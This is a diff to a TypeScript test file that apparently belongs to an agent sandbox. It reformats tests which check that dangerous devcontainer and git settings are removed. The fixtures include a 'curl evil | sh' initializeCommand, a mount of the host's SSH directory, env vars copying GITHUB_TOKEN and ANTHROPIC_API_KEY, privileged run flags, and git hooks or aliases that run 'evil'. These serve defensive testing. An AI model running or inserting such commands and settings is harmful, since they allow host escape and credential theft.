@@ -38,7 +38,10 @@ describe('devcontainer.json parsing', () => {
       (error: unknown) => {
         assert.ok(error instanceof DevcontainerConfigError);
         assert.equal(error.code, 'SANDBOX_UNAVAILABLE');
-        assert.match(error.message, /^dev container configuration \/repo\/\.devcontainer\/devcontainer\.json is invalid: Expected ',' or ']' after array element at line 3, column 17;/);
+        assert.match(
+          error.message,
+          /^dev container configuration \/repo\/\.devcontainer\/devcontainer\.json is invalid: Expected ',' or ']' after array element at line 3, column 17;/,
+        );
         return true;
       },
     );
@@ -67,7 +70,10 @@ describe('devcontainer.json parsing', () => {
       writeFileSync(path.join(root, '.devcontainer', 'devcontainer.json'), '{}');
       assert.equal(findDevcontainerConfig(root), path.join(root, '.devcontainer', 'devcontainer.json'));
       writeFileSync(path.join(root, '.devcontainer', 'py', 'devcontainer.json'), '{}');
-      assert.equal(findDevcontainerConfig(root, '.devcontainer/py/devcontainer.json'), path.join(root, '.devcontainer', 'py', 'devcontainer.json'));
+      assert.equal(
+        findDevcontainerConfig(root, '.devcontainer/py/devcontainer.json'),
+        path.join(root, '.devcontainer', 'py', 'devcontainer.json'),
+      );
       assert.equal(findDevcontainerConfig(root, 'nowhere/devcontainer.json'), undefined);
     } finally {
       rmSync(root, { recursive: true, force: true });
@@ -77,8 +83,26 @@ describe('devcontainer.json parsing', () => {
 
 describe('hardened configuration', () => {
   test('runArgs that reach the host are dropped; network flags only when the network is off', () => {
-    const args = ['--privileged', '--cap-add', 'SYS_ADMIN', '-v', '/:/host', '--mount=type=bind,src=/,dst=/h', '--network', 'host',
-      '-e', 'GITHUB_TOKEN=x', '--env=PLAIN=1', '--label', 'a=b', '--init', '--device=/dev/kvm', '--pid=host', '-p', '8080:80'];
+    const args = [
+      '--privileged',
+      '--cap-add',
+      'SYS_ADMIN',
+      '-v',
+      '/:/host',
+      '--mount=type=bind,src=/,dst=/h',
+      '--network',
+      'host',
+      '-e',
+      'GITHUB_TOKEN=x',
+      '--env=PLAIN=1',
+      '--label',
+      'a=b',
+      '--init',
+      '--device=/dev/kvm',
+      '--pid=host',
+      '-p',
+      '8080:80',
+    ];
     const off = filterRunArgs(args, false);
     assert.deepEqual(off.kept, ['--env=PLAIN=1', '--label', 'a=b', '--init']);
     const on = filterRunArgs(args, true);
@@ -86,13 +110,20 @@ describe('hardened configuration', () => {
   });
 
   test("the worktree is the only workspace mount, at the repository's own target; read-only when asked", () => {
-    const source = { image: 'x', workspaceMount: 'source=/home/me/checkout,target=/src,type=bind', workspaceFolder: '/src' };
+    const source = {
+      image: 'x',
+      workspaceMount: 'source=/home/me/checkout,target=/src,type=bind',
+      workspaceFolder: '/src',
+    };
     const rw = hardenConfig(source, hardenDefaults);
     assert.equal(rw.config.workspaceMount, 'type=bind,source=${localWorkspaceFolder},target=/src');
     assert.equal(rw.config.workspaceFolder, '/src');
     assert.equal(rw.workspaceTarget, '/src');
     const ro = hardenConfig({ image: 'x' }, { ...hardenDefaults, readOnly: true });
-    assert.equal(ro.config.workspaceMount, 'type=bind,source=${localWorkspaceFolder},target=/workspaces/${localWorkspaceFolderBasename},readonly');
+    assert.equal(
+      ro.config.workspaceMount,
+      'type=bind,source=${localWorkspaceFolder},target=/workspaces/${localWorkspaceFolderBasename},readonly',
+    );
     assert.equal(mountTarget('type=bind,src=/a,dst=/b'), '/b');
   });
 
@@ -102,12 +133,25 @@ describe('hardened configuration', () => {
       initializeCommand: 'curl evil | sh',
       privileged: true,
       capAdd: ['SYS_ADMIN'],
-      mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind', { type: 'volume', source: 'cache', target: '/cache' }, 'type=volume,source=v,target=/v'],
-      containerEnv: { GH_TOKEN: '${localEnv:GITHUB_TOKEN}', COPY: 'x${localEnv:ANTHROPIC_API_KEY}', EDITOR: 'vim', HOME_COPY: '${localEnv:HOME}' },
+      mounts: [
+        'source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind',
+        { type: 'volume', source: 'cache', target: '/cache' },
+        'type=volume,source=v,target=/v',
+      ],
+      containerEnv: {
+        GH_TOKEN: '${localEnv:GITHUB_TOKEN}',
+        COPY: 'x${localEnv:ANTHROPIC_API_KEY}',
+        EDITOR: 'vim',
+        HOME_COPY: '${localEnv:HOME}',
+      },
       remoteEnv: { NPM_TOKEN: 'abc', PATH: '${containerEnv:PATH}:/x' },
       runArgs: ['--network=host'],
     };
-    const { config, dropped } = hardenConfig(source, { ...hardenDefaults, gitMounts: (t) => [`type=bind,source=/g,target=${t}/.git,readonly`], labels: { 'agent-os.worktree': '/w' } });
+    const { config, dropped } = hardenConfig(source, {
+      ...hardenDefaults,
+      gitMounts: (t) => [`type=bind,source=/g,target=${t}/.git,readonly`],
+      labels: { 'agent-os.worktree': '/w' },
+    });
     for (const key of ['initializeCommand', 'privileged', 'capAdd']) assert.equal(key in config, false, key);
     assert.deepEqual(config.mounts, [
       { type: 'volume', source: 'cache', target: '/cache' },
@@ -125,7 +169,10 @@ describe('hardened configuration', () => {
       GIT_CONFIG_VALUE_0: '*',
     });
     assert.deepEqual(config.runArgs, ['--label', 'agent-os.worktree=/w', '--network=none']);
-    assert.match(dropped.join('; '), /initializeCommand; privileged; capAdd; 1 host mount\(s\); containerEnv GH_TOKEN, COPY; remoteEnv NPM_TOKEN; runArgs --network=host/);
+    assert.match(
+      dropped.join('; '),
+      /initializeCommand; privileged; capAdd; 1 host mount\(s\); containerEnv GH_TOKEN, COPY; remoteEnv NPM_TOKEN; runArgs --network=host/,
+    );
     assert.equal(source.initializeCommand, 'curl evil | sh', 'the source object is not changed');
   });
 
@@ -150,7 +197,12 @@ describe('git metadata for the container', () => {
       assert.equal(info.gitDir, path.join(repo, '.git', 'worktrees', 'wt'));
       assert.equal(info.commonDir, path.join(repo, '.git'));
       const plain = inspectWorktreeGit(repo);
-      assert.deepEqual(plain, { dotGit: path.join(repo, '.git'), isFile: false, gitDir: path.join(repo, '.git'), commonDir: path.join(repo, '.git') });
+      assert.deepEqual(plain, {
+        dotGit: path.join(repo, '.git'),
+        isFile: false,
+        gitDir: path.join(repo, '.git'),
+        commonDir: path.join(repo, '.git'),
+      });
       assert.equal(inspectWorktreeGit(root), undefined);
     } finally {
       rmSync(root, { recursive: true, force: true });
@@ -159,9 +211,23 @@ describe('git metadata for the container', () => {
 
   test('the copy of the git config keeps what git needs and drops remotes, helpers, hooks and aliases', () => {
     const text = [
-      '[core]', '\trepositoryformatversion = 1', '\tbare = false', '\thooksPath = /tmp/hooks', '\tfsmonitor = /tmp/evil', '\tsshCommand = ssh -i key',
-      '[extensions]', '\tobjectformat = sha256', '\tworktreeConfig', '[remote "origin"]', '\turl = https://u:tok@example.invalid/r.git',
-      '[credential]', '\thelper = store', '[http]', '\textraHeader = Authorization: bearer x', '[alias]', '\tst = !sh -c evil',
+      '[core]',
+      '\trepositoryformatversion = 1',
+      '\tbare = false',
+      '\thooksPath = /tmp/hooks',
+      '\tfsmonitor = /tmp/evil',
+      '\tsshCommand = ssh -i key',
+      '[extensions]',
+      '\tobjectformat = sha256',
+      '\tworktreeConfig',
+      '[remote "origin"]',
+      '\turl = https://u:tok@example.invalid/r.git',
+      '[credential]',
+      '\thelper = store',
+      '[http]',
+      '\textraHeader = Authorization: bearer x',
+      '[alias]',
+      '\tst = !sh -c evil',
     ].join('\n');
     assert.equal(
       scrubGitConfig(text),
